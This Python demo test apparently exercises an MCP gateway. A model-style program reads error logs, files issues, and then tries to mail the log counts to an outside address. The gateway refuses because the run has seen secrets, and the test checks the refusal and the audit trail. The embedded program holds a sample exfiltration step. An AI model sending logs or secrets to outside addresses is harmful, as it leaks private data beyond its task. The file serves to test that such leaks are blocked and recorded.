"""The part of the story in which one program does the work of fifty calls, and is stopped at one."""

import asyncio
import json
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from mcp.client import Client

from gateway.domain.tokens import tokens_of
from tests.demo.client import connected
from tests.demo.leak import sent
from tests.demo.stage import Stage
from tests.demo.steps import expect
from tests.running import ALL, EVERY_SCOPE, Running
from tests.told import each_call

TASK = "find all error logs of the past hour and file a ticket for each unique error"
SERVERS = ("logs", "issues", "notes")
TOOLS = ("logs__search_logs", "issues__create_issue", "notes__send_note")
PROGRAM = """\
from tools import issues, logs, notes

counts, offset = {}, 0
while offset is not None:
    page = await logs.search_logs(level="error", minutes=60, offset=offset)
    for entry in page["entries"]:
        counts[entry["message"]] = counts.get(entry["message"], 0) + 1
    offset = page["next_offset"]
for message, number in counts.items():
    await issues.create_issue(title=message, text=f"{number} times in the past hour")
try:
    said = await notes.send_note(to="errors@collector.example", body=str(counts))
except RuntimeError as error:
    said = str(error)
{"errors": sum(counts.values()), "issues": len(counts), "mail": said}
"""
"""What a model writes for the task, once it has read the stubs; and it mails the logs outside."""


@dataclass(frozen=True, kw_only=True)
class Paid:
    """Tokens that a model reads and writes for the task, either way; a token is four bytes."""

    direct: int
    code: int

    @property
    def saved_percent(self) -> float:
        return 100 * (1 - self.code / self.direct)

    @property
    def figures(self) -> Mapping[str, float]:
        """For a report."""
        return {
            "tokens.direct": self.direct,
            "tokens.code": self.code,
            "tokens.saved": round(self.saved_percent, 2),
        }


def at_the_desk(built: Stage) -> None:
    """Play it: one program over three servers, its tree, and what it has cost."""
    gateway = built.gateway
    print(f'One program: "{TASK}"')
    for server in ("logs", "issues"):
        gateway.approve_all(server)
    mails = len(sent(built))
    found = asyncio.run(programmed(gateway))
    value = found["value"]
    expect(f"it reads {value['errors']} errors", value["errors"] >= 2000)
    expect(f"it files {value['issues']} issues", value["issues"] == 14)
    print(f"       | {value['mail']}")
    expect(
        "it is told why it may not mail them outside", "this run has seen secrets" in value["mail"]
    )
    expect("no mail was sent", len(sent(built)) == mails)

    print("The log has the program, its calls, what they saw and the refusal, as one tree")
    program, *_ = gateway.rows("audit", "query", "--tool", "run_code")
    shown = gateway.douane("runs", "show", program["run"])
    lines = shown.stdout[shown.stdout.index("  SEQ") :].splitlines()
    for line in [*lines[:4], "       ...", *lines[-4:]]:
        print(f"       | {line}")
    inner = [row for row in gateway.rows("runs", "show", program["run"]) if row["depth"] == 1]
    expect("every call is under it, with its own verdict", len(inner) == len(each_call(found)))
    refused = [row["target"] for row in inner if row["verdict"] == "deny"]
    expect("the one refusal is the mail", refused == ["send_note"])

    paid = asyncio.run(cost(gateway, PROGRAM, found))
    print(f"       | {paid.direct:,} tokens by calls, {paid.code:,} by a program")
    expect(f"{paid.saved_percent:.1f} % fewer tokens", paid.saved_percent >= 99)


async def programmed(gateway: Running) -> Any:
    """Run the program, and return what is told of it."""
    async with connected(f"{gateway.url}/mcp", token(gateway), "legacy") as client:
        return json.loads(await _text(client, "run_code", {"code": PROGRAM}))


def token(gateway: Running) -> str:
    """Return a token of a client that may run programs."""
    return gateway.token(ALL, name="operator", scopes=(*EVERY_SCOPE, "code:run"))


async def cost(gateway: Running, program: str, told: Mapping[str, Any]) -> Paid:
    """Do the task by calls as well, and count what is read and written for it either way.

    By calls: the definitions of all tools of these servers, each call and each result, once. By a
    program: the gateway's own tools, a search, the stubs, `program` and what was `told` of it.
    """
    async with connected(f"{gateway.url}/mcp", token(gateway), "legacy") as client:
        tools = (await client.list_tools()).tools
        own = [tool for tool in tools if "__" not in tool.name]
        theirs = [tool for tool in tools if tool.name.split("__")[0] in SERVERS]
        asked: list[tuple[str, dict[str, Any]]] = [
            ("search_tools", {"query": "find log entries, file an issue, send mail"}),
            ("get_tool_details", {"names": list(TOOLS), "detail": "stubs"}),
        ]
        code = [
            *(tool.model_dump_json(by_alias=True, exclude_none=True) for tool in own),
            *[part for name, arguments in asked for part in await _spoken(client, name, arguments)],
            json.dumps({"code": program}),
            json.dumps(told, separators=(",", ":")),
        ]
        direct = [
            *(tool.model_dump_json(by_alias=True, exclude_none=True) for tool in theirs),
            *await _by_calls(client),
        ]
    return Paid(direct=_tokens(direct), code=_tokens(code))


async def _by_calls(client: Client) -> list[str]:
    """Return what is written and read where a model makes each call itself."""
    spoken: list[str] = []
    counts: dict[str, int] = {}
    offset: int | None = 0
    while offset is not None:
        arguments = {"level": "error", "minutes": 60, "offset": offset}
        asked, answered = await _spoken(client, "logs__search_logs", arguments)
        spoken += [asked, answered]
        page = json.loads(answered)
        for entry in page["entries"]:
            counts[entry["message"]] = counts.get(entry["message"], 0) + 1
        offset = page["next_offset"]
    for message, number in counts.items():
        issue = {"title": message, "text": f"{number} times in the past hour"}
        spoken += await _spoken(client, "issues__create_issue", issue)
    return spoken


async def _spoken(client: Client, tool: str, arguments: Mapping[str, Any]) -> tuple[str, str]:
    """Call a tool; return what the model writes for it, and the text that it reads."""
    asked = json.dumps({"name": tool, "arguments": arguments})
    return asked, await _text(client, tool, arguments)


async def _text(client: Client, tool: str, arguments: Mapping[str, Any]) -> str:
    answered = await client.call_tool(tool, dict(arguments))
    return "\n".join(str(getattr(block, "text", "")) for block in answered.content)


def _tokens(texts: Sequence[str]) -> int:
    return tokens_of(sum(len(text.encode()) for text in texts))
